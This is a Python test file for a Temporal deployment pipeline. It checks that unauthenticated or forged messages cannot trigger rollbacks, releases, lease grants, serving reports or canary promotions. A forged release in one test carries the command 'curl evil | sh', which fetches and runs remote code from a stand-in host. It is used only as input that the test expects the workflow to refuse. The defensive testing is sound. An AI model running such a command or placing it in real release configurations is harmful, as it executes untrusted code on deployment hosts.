"""Anyone who can reach Temporal is not a deployer: environment workflows and canaries take
messages only with a deployer's proof, and a rollback happens once per run (a restarted run
that fails again restores again). Time-skipping server, in-memory platforms."""

from __future__ import annotations

import asyncio
import uuid
from datetime import UTC, datetime
from typing import Any, TypeVar, cast

import pytest
from temporalio.client import WorkflowHandle, WorkflowUpdateFailedError
from temporalio.service import RPCError
from temporalio.testing import WorkflowEnvironment

from contracts.activity import Artifact, ReleaseSpec
from contracts.definition.model import PipelineSpec
from contracts.messages import (
    CanaryControl,
    CanaryOrder,
    CanaryResult,
    LeaseAnswer,
    LeaseNotice,
    LeaseRelease,
    LeaseRequest,
    PipelineInput,
    PipelineState,
    RollbackOrder,
    ServingReport,
    StageState,
)
from contracts.naming import LEASE_SIGNAL, canary_id, environment_id, pipeline_id
from plumbing.updates import execute_update, is_lost_update
from starters.runs import pipeline_outcome
from tests.support.memory import MemoryBackends
from tests.support.pipelines import ROLES, heal7, run_context, start, wait_for_gate, wait_for_stage
from tests.workflows.test_pipeline import (
    approve,
    approve_all,
    canary_errors,
    wait_for_canary_interval,
)
from worker import build_worker
from workflows.canary import CanaryWorkflow
from workflows.environment.workflow import EnvironmentWorkflow
from workflows.pipeline.workflow import PipelineWorkflow

pytestmark = pytest.mark.timeout(90)

OLD = "sha256:" + "0" * 64
M = TypeVar("M")
FORGED = f"v1:{int(datetime.now(UTC).timestamp())}:{'0' * 64}"


def own_service() -> PipelineSpec:
    """HEAL7 under a service name of its own: its environment workflows are this test's."""
    spec = heal7()
    name = f"svc{uuid.uuid4().hex[:8]}"
    return spec.model_copy(update={"service": spec.service.model_copy(update={"name": name})})


async def refused(handle: WorkflowHandle[Any, Any], update: str, arg: object) -> str:
    # Sent as the CLI sends updates: again under its id if the server lost it before its
    # validator ran; refused is the verdict. The time-skipping server, beside the whole
    # suite, lost one update for longer than the CLI's 3 s of retries: the test keeps
    # sending it (same id) for up to 30 s more before it calls the server lost.
    update_id = str(uuid.uuid4())
    for _ in range(10):
        try:
            with pytest.raises(WorkflowUpdateFailedError) as caught:
                await execute_update(handle, update, arg, update_id=update_id)
        except RPCError as err:
            if not is_lost_update(err):
                raise
            await asyncio.sleep(3)
            continue
        return str(caught.value.cause)
    raise AssertionError(f"the server lost update {update!r} ({update_id}) for 30 s")


async def recorded_update(env: WorkflowEnvironment, handle: Any, name: str, kind: type[M]) -> M:
    """The input of the first update `name` accepted in `handle`'s history."""
    history = await handle.fetch_history()
    for event in history.events:
        accepted = event.workflow_execution_update_accepted_event_attributes
        if accepted.accepted_request.input.name == name:
            [value] = await env.client.data_converter.decode(
                accepted.accepted_request.input.args.payloads, [kind]
            )
            return cast(M, value)
    raise AssertionError(f"no {name} update in {handle.id}'s history")


async def test_a_bare_client_cannot_roll_back_release_or_report(
    time_env: WorkflowEnvironment, memory: MemoryBackends, task_queue: str
) -> None:
    memory.platform.already_serving("production", OLD)
    spec = own_service()
    service = spec.service.name
    async with build_worker(time_env.client, memory.backends(), task_queue):
        handle = await time_env.client.start_workflow(
            PipelineWorkflow.run,
            PipelineInput(spec=spec, run=run_context(), roles=ROLES),
            id=pipeline_id(service, "main", "a" * 40),
            task_queue=task_queue,
        )
        await approve_all(handle)
        result = await pipeline_outcome(handle)
        assert result.state == PipelineState.SUCCEEDED
        assert result.artifact is not None
        production = time_env.client.get_workflow_handle(environment_id(service, "production"))
        base = {"service": service, "environment": "production", "run": handle.id}
        # What `temporal workflow update execute --name rollback` sends: no proof; then a
        # made-up one.
        order = RollbackOrder.model_validate({**base, "request_id": "bare-1"})
        no_proof = await refused(production, "rollback", order)
        forged = await refused(production, "rollback", order.model_copy(update={"proof": FORGED}))
        release = await refused(
            production, "release", LeaseRelease.model_validate({**base, "request_id": "bare-2"})
        )
        acquire = await refused(
            production,
            "acquire",
            LeaseRequest.model_validate(
                {**base, "run_id": "x", "commit": "b" * 40, "request_id": "bare-3"}
            ),
        )
        evil = ReleaseSpec(
            artifact=Artifact(version="6.6.6", digest="sha256:" + "6" * 64, uri="memory://evil"),
            run_command=["sh", "-c", "curl evil | sh"],
        )
        report = await refused(
            production,
            "report",
            ServingReport.model_validate(
                {
                    **base,
                    "run_id": "x",
                    "token": 1,
                    "release": evil,
                    "commit": "c" * 40,
                    "request_id": "bare-4",
                }
            ),
        )
        # The run's own acquire, copied with its proof out of the environment's history and
        # sent again, is answered without taking anything.
        copied = await recorded_update(time_env, production, "acquire", LeaseRequest)
        assert copied.proof
        replayed = await production.execute_update(
            "acquire", copied, id=f"copy-{uuid.uuid4()}", result_type=LeaseAnswer
        )
        state = await production.query(EnvironmentWorkflow.state)
    assert replayed.status == "superseded"
    assert f"lease request {copied.request_id} was answered" in replayed.reason
    assert "rollback refused: not sent by a deployer" in no_proof
    assert "rollback refused: its proof does not verify" in forged
    assert "release refused: not sent by a deployer" in release
    assert "acquire refused: not sent by a deployer" in acquire
    assert "report refused: not sent by a deployer" in report
    # Production still serves the run's release; nothing was restored or recorded.
    assert memory.platform.envs["production"].stable == result.artifact.digest
    assert [e for e in memory.platform.events if e.startswith("restore")] == []
    assert state.serving is not None
    assert state.serving.run == handle.id
    assert all(e.release is None or e.digest != evil.digest for e in state.releases)


async def test_a_canary_takes_no_control_but_its_pipelines(
    time_env: WorkflowEnvironment, memory: MemoryBackends, task_queue: str
) -> None:
    spec = own_service()
    async with build_worker(time_env.client, memory.backends(), task_queue):
        handle = await time_env.client.start_workflow(
            PipelineWorkflow.run,
            PipelineInput(spec=spec, run=run_context(), roles=ROLES),
            id=pipeline_id(spec.service.name, "main", "d" * 40),
            task_queue=task_queue,
        )
        await approve_all(handle)
        await wait_for_canary_interval(time_env, handle)
        child = time_env.client.get_workflow_handle(canary_id(handle.id, "canary"))
        described = await child.describe()
        order = CanaryOrder(
            canary=child.id, action="promote", control=CanaryControl(by="erin"), request_id="e1"
        )
        unsigned = await refused(child, "control", order)
        forged = await refused(child, "control", order.model_copy(update={"proof": FORGED}))
        await child.signal(CanaryWorkflow.promote, CanaryControl(by="erin"))
        result = await pipeline_outcome(handle)
        canary = CanaryResult.model_validate(await child.result())
    assert "control refused: not sent by a deployer" in unsigned
    assert "control refused: its proof does not verify" in forged
    assert result.state == PipelineState.SUCCEEDED
    assert canary.reason == "all steps passed"  # nobody's promote counted
    assert canary.ignored_controls
    assert canary.ignored_controls[0].startswith("promote by erin")
    # The child's input holds no token that would let a reader of history act for the run.
    history = await child.fetch_history()
    started = history.events[0].workflow_execution_started_event_attributes
    assert b'"control_token":""' in started.input.payloads[0].data.replace(b" ", b"")
    assert described.parent_id == handle.id


async def test_a_restarted_run_that_fails_again_is_rolled_back_again(
    time_env: WorkflowEnvironment, memory: MemoryBackends, task_queue: str
) -> None:
    """The same commit started again under the same workflow id (what CI does after a red
    run): its failed canary is rolled back too, not answered with the first run's outcome."""
    memory.platform.already_serving("production", OLD)
    memory.metrics.script = canary_errors
    spec = own_service()
    workflow_id = pipeline_id(spec.service.name, "main", "e" * 40)
    results = []
    async with build_worker(time_env.client, memory.backends(), task_queue):
        for _ in range(2):
            handle = await time_env.client.start_workflow(
                PipelineWorkflow.run,
                PipelineInput(spec=spec, run=run_context(), roles=ROLES),
                id=workflow_id,
                task_queue=task_queue,
            )
            await approve_all(handle)
            results.append(await pipeline_outcome(handle))
            assert memory.platform.envs["production"].weight == 0
    assert [r.state for r in results] == [PipelineState.ROLLED_BACK] * 2
    restores = [e for e in memory.platform.events if e.startswith("restore production")]
    assert restores == [f"restore production {OLD}"] * 2
    assert memory.platform.envs["production"].stable == OLD


async def test_a_forged_lease_notice_neither_lets_a_queued_run_in_nor_stops_the_holder(
    time_env: WorkflowEnvironment, memory: MemoryBackends, task_queue: str
) -> None:
    """A lease notice is a signal, and anyone may signal a pipeline: a grant with a huge
    token sent to a queued run, and a 'superseded' sent to the holder, change nothing."""
    from tests.workflows.test_environments import at, committed, queued_everywhere

    spec = queued_everywhere(own_service())
    async with build_worker(time_env.client, memory.backends(), task_queue):
        runs = {}
        for name, minute in (("holder", 0), ("queued", 10)):
            runs[name] = handle = await start(
                time_env.client, task_queue, spec, committed(memory, at(minute))
            )
            await wait_for_gate(handle, "staging", timeout_s=40)
            await approve(handle, "alice", "staging")
            await wait_for_gate(handle, "production", timeout_s=40)
        holder, queued = runs["holder"], runs["queued"]
        await approve(holder, "carol", "production")
        await approve(holder, "dave", "production")
        await wait_for_canary_interval(time_env, holder)
        await approve(queued, "carol", "production")
        await approve(queued, "dave", "production")
        await wait_for_stage(queued, "deploy_production", StageState.QUEUED)
        queued_run = (await queued.describe()).run_id
        holder_run = (await holder.describe()).run_id
        await queued.signal(
            LEASE_SIGNAL,
            LeaseNotice(environment="production", run_id=queued_run, status="granted", token=10**9),
        )
        await holder.signal(
            LEASE_SIGNAL,
            LeaseNotice(environment="production", run_id=holder_run, status="superseded", by="x"),
        )
        still = await wait_for_stage(queued, "deploy_production", StageState.QUEUED)
        results = {name: await pipeline_outcome(h) for name, h in runs.items()}
        prod = await time_env.client.get_workflow_handle(
            environment_id(spec.service.name, "production")
        ).query(EnvironmentWorkflow.state)
    assert next(s for s in still.stages if s.name == "deploy_production").state == (
        StageState.QUEUED
    )
    assert {n: r.state for n, r in results.items()} == dict.fromkeys(runs, PipelineState.SUCCEEDED)
    served = [e.run for e in prod.releases if e.outcome in ("serving", "replaced")]
    assert served[-2:] == [holder.id, queued.id]  # in queue order, each under its own lease
    assert prod.token < 10**9


async def test_a_notice_naming_no_environment_is_ignored_not_fatal(
    time_env: WorkflowEnvironment, memory: MemoryBackends, task_queue: str
) -> None:
    """A forged grant for an environment that does not exist: confirming it finds no such
    environment, so it is ignored. (It was asked about again and again until its attempts ran
    out, and that failure, inside the signal handler, failed the run.)"""
    spec = own_service()
    async with build_worker(time_env.client, memory.backends(), task_queue):
        handle = await start(time_env.client, task_queue, spec, run_context())
        await wait_for_gate(handle, "staging", timeout_s=40)  # development's lease was asked
        run_id = (await handle.describe()).run_id
        await handle.signal(
            LEASE_SIGNAL,
            LeaseNotice(environment="nowhere", run_id=run_id, status="granted", token=7),
        )
        await approve_all(handle)
        result = await pipeline_outcome(handle)
    assert result.state == PipelineState.SUCCEEDED, result.failure
